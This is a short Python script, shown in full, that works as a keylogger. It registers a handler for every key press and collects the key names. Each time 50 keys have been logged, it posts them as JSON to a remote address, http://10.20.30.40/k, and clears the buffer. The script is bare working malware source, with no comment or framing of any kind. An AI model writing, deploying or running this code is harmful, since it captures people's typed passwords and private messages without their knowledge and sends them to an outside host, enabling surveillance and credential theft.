import keyboard
import requests

log = []


def on_key(event):
    log.append(event.name)
    if len(log) >= 50:
        requests.post("http://10.20.30.40/k", json={"keys": log[:]})
        log.clear()


keyboard.on_press(on_key)
keyboard.wait()
